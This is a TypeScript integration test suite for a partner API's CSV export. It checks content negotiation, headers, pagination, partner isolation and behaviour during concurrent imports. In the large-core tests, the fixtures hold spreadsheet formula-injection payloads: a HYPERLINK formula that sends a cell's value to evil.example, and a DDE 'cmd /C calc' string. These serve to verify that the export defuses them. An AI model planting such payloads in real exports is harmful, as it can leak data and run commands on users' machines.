import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, inject, test } from 'vitest'
import { importAsOperator } from '../setup/operator.ts'
import { runCommandToSuccess } from '../setup/product.ts'
import { type Credentials, createToken, createUser } from './access.ts'
import type { ListBody } from './bodies.ts'
import { credentials } from './client.ts'
import { servedDocument } from './described.ts'
import { assetsOf, v1, v2 } from './versions.ts'
import { walk } from './walk.ts'

const baseUrl = inject('baseUrl')
const csv = 'text/csv; charset=utf-8; header=present'
const json = 'application/json; charset=utf-8'
const alpha = assetsOf(v2, 'alpha')

type Asked = { accept?: string | null; as?: Credentials | 'A' | 'B' | null; method?: string }

function fetchAs(target: string, { accept = 'text/csv', as = 'A', method = 'GET' }: Asked = {}): Promise<Response> {
  const who = typeof as === 'string' ? credentials(as) : as
  return fetch(new URL(target, baseUrl), {
    method,
    headers: { ...who, ...(accept === null ? {} : { Accept: accept }) },
  })
}

type Line = Record<string, string>

async function linesOf(target: string, asked: Asked = {}): Promise<Line[]> {
  const response = await fetchAs(target, asked)
  expect([response.status, response.headers.get('content-type')]).toEqual([200, csv])
  return parse(await response.text(), { columns: true, record_delimiter: '\r\n' })
}

/** A record as its line must be: nested fields as one name, without the units, `null` as an empty cell. */
function lineOf(record: object): Line {
  return Object.fromEntries(
    Object.entries(record).flatMap(([name, value]): [string, string][] => {
      if (name === 'unit') return []
      if (value === null || typeof value !== 'object') return [[name, value === null ? '' : String(value)]]
      return Object.entries(lineOf(value)).map(([inner, text]) => [`${name}.${inner}`, text])
    }),
  )
}

/** Without units, and without empty cells: those of a quantity that is null are not in the record. */
function known(line: Line): Line {
  const cells = Object.entries(line).map(([name, text]) => [name.replace(/ \([^)]*\)$/, ''), text] as const)
  return Object.fromEntries(cells.filter(([, text]) => text !== ''))
}

describe('a list as CSV', () => {
  test.each([
    v2.cores,
    `${v2.cores}?filter[id]=*a*&sort[id]=-`,
    alpha,
    `${alpha}?sort[storage_usage]=-&sort[id]=-`,
    `${alpha}?filter[status]=active&filter[status]=staged&sort[memory_usage]=%2B`,
    `${alpha}?filter[id]=nothing`,
    assetsOf(v2, 'empty'),
    '/hybrid-core/v2/storage-workload?sort[percentage]=-',
  ])('is all JSON pages one after the other: %s', async (target) => {
    const records = await walk<object>(target)
    const lines = await linesOf(target)
    expect(lines.map(known)).toEqual(records.map((record) => known(lineOf(record))))
  })
  test('has all pages, whichever page is asked for', async () => {
    const whole = await (await fetchAs(alpha)).text()
    expect(await (await fetchAs(`${alpha}?page[number]=2&page[size]=7`)).text()).toBe(whole)
    expect(whole.split('\r\n')).toHaveLength(132)
  })
  test('names the unit of each number in its header', async () => {
    const [header = ''] = (await (await fetchAs(alpha)).text()).split('\r\n')
    expect(header.split(',')).toEqual(
      expect.arrayContaining(['cpu_usage.percentage (%)', 'cpu_usage.raw (cores)', 'memory_usage.raw (bytes)']),
    )
  })
  test('is a file, kept by nobody but its owner', async () => {
    const { headers } = await fetchAs(alpha)
    expect(headers.get('content-disposition')).toBe('attachment; filename="assets.csv"')
    expect(headers.get('cache-control')).toBe('private, no-cache')
    expect(headers.get('vary')?.split(', ')).toContain('Accept')
    expect(headers.get('x-request-id')).toBeTruthy()
    expect(headers.get('link')).toBeNull()
  })
  test('is what Accept prefers, and JSON when it does not say', async () => {
    const preferences: [string | null, string][] = [
      ['text/csv, application/json;q=0.5', csv],
      ['application/json, text/csv;q=0.9', json],
      ['text/csv, application/json', json],
      ['text/html, */*;q=0.8', json],
      ['text/html', json],
      ['text/csv;q=0', json],
      ['*/*', json],
    ]
    for (const [accept, type] of preferences) {
      expect([accept, (await fetchAs(alpha, { accept })).headers.get('content-type')]).toEqual([accept, type])
    }
  })
  test('answers HEAD with its headers alone', async () => {
    const head = await fetchAs(alpha, { method: 'HEAD' })
    expect([head.status, head.headers.get('content-type'), await head.text()]).toEqual([200, csv, ''])
  })
  test('is described', async () => {
    const { paths } = await servedDocument('v2')
    const of = (path: string) => Object.keys(paths[path]?.get?.responses['200']?.content ?? {})
    expect(of('/hybrid-core/v2/storage-workload')).toEqual(['application/json', 'text/csv'])
    expect(of('/hybrid-core/v2/hybrid-cores/{hybrid_core_id}/resources')).toEqual(['application/json'])
    const v1Paths = (await servedDocument('v1')).paths
    expect(JSON.stringify(v1Paths)).not.toContain('text/csv')
  })
})

describe('what is no list', () => {
  test.each([`${v2.cores}/alpha`, `${v2.cores}/alpha/resources`, '/hybrid-core/v2/doc', v1.cores])(
    'stays JSON: %s',
    async (target) => {
      const { status, headers } = await fetchAs(target)
      expect([status, headers.get('content-type')]).toEqual([200, json])
    },
  )
  test.each([
    [`${alpha}?page[size]=51`, 400, 'A'],
    [`${alpha}?sort[id]=up`, 400, 'A'],
    [`${alpha}?junk=1`, 400, 'A'],
    [assetsOf(v2, 'nothing'), 404, 'A'],
    [assetsOf(v2, 'bravo'), 404, 'A'],
    [alpha, 404, 'B'],
    [alpha, 401, null],
  ] as const)('is a problem in JSON: %s is a %i', async (target, status, as) => {
    const response = await fetchAs(target, { as })
    expect([response.status, response.headers.get('content-type')]).toEqual([status, json])
    expect(response.headers.get('content-disposition')).toBeNull()
    expect((await response.json()) as object).toMatchObject({ errors: [{ status }] })
  })
})

describe('of partner B', () => {
  test('nothing is in the files of partner A, and the other way round', async () => {
    for (const target of [v2.cores, '/hybrid-core/v2/storage-workload', alpha]) {
      expect(await (await fetchAs(target)).text()).not.toMatch(/bravo|7777777777|9999999999/)
    }
    const cores = await linesOf(v2.cores, { as: 'B' })
    expect(cores.map(({ id }) => id)).toEqual(['bravo', 'bravo-empty'])
  })
})

describe('of a partner with a large core', () => {
  const partner = 'd0000000-0000-4000-8000-00000000000d'
  const count = 12_345
  const large = assetsOf(v2, 'large')
  const formula = '=HYPERLINK("http://evil.example?"&A1,"Berlin, 1")'
  const status = "@SUM(1+1)*cmd|' /C calc'!A0"
  let as: Credentials

  beforeAll(async () => {
    const location = 'd0000000-0000-4000-8000-0000000000d1'
    const records: object[] = [
      { kind: 'partner', uuid: partner, name: 'Large' },
      { kind: 'location', uuid: location, name: formula },
      { kind: 'hybrid_core', id: 'large', partner_uuid: partner, location_uuid: location, status: '-1+1' },
    ]
    for (let n = 0; n < count; n++) {
      const storage = { used: (n * 7_919) % count, total: count }
      records.push({
        kind: 'asset',
        hybrid_core_id: 'large',
        id: `n-${n}`,
        node_type: 'object_storage',
        status,
        storage,
      })
    }
    await importAsOperator(inject('env'), records)
    const email = `owner-${Date.now()}@large.example`
    await createUser(email, { partnerUuid: partner })
    as = await createToken(email, 'CSV')
  })

  test('a file has every row once, in the order of the list', async () => {
    const lines = await linesOf(`${large}?sort[storage_usage]=-`, { as })
    expect(lines).toHaveLength(count)
    expect(new Set(lines.map(({ id }) => id)).size).toBe(count)
    const used = lines.map((line) => Number(line['storage_usage.raw (bytes)']))
    expect(used).toEqual(used.toSorted((a, b) => b - a))
    const page = await fetchAs(`${large}?sort[storage_usage]=-&page[number]=247`, { as, accept: null })
    const { data } = (await page.json()) as ListBody
    expect(lines.slice(246 * 50).map(({ id }) => id)).toEqual(data.map(({ id }) => id))
  })
  test('a text that would be a formula is none', async () => {
    const [core] = await linesOf(v2.cores, { as })
    expect(core).toMatchObject({ 'location.name': `'${formula}`, status: "'-1+1" })
    const [asset] = await linesOf(`${large}?filter[id]=n-1`, { as })
    expect(asset).toMatchObject({ status: `'${status}`, id: 'n-1' })
  })
  test('a client that goes away in the middle leaves the service well', async () => {
    for (let n = 0; n < 5; n++) {
      const reader = (await fetchAs(large, { as })).body?.getReader()
      await reader?.read()
      await reader?.cancel()
    }
    expect(await linesOf(`${large}?filter[id]=n-1*`, { as })).toHaveLength(3_456)
  })
  test('a file beside an import is whole and without repetition, or visibly broken off', async () => {
    const record = (n: number) => ({
      kind: 'asset',
      hybrid_core_id: 'large',
      id: `a-${n}`,
      node_type: 'object_storage',
      status,
    })
    let isOver = false
    const imports = (async () => {
      for (let n = 0; n < 5; n++) {
        const input = [0, 1, 2].map((m) => `${JSON.stringify(record(n * 3 + m))}\n`).join('')
        await runCommandToSuccess(['import', '-'], { env: inject('env'), input })
      }
      isOver = true
    })()
    const lengths = new Set<number>()
    while (!isOver) {
      const text = await (await fetchAs(large, { as })).text().catch(() => null)
      if (text === null) continue
      const ids = text
        .trimEnd()
        .split('\r\n')
        .slice(1)
        .map((line) => line.slice(0, line.indexOf(',')))
      expect(new Set(ids).size).toBe(ids.length)
      expect(Math.abs(ids.length - count) % 3).toBe(0)
      lengths.add(ids.length)
    }
    await imports
    expect(lengths.size).toBeGreaterThan(0)
    expect(await linesOf(large, { as })).toHaveLength(count + 15)
  })
})
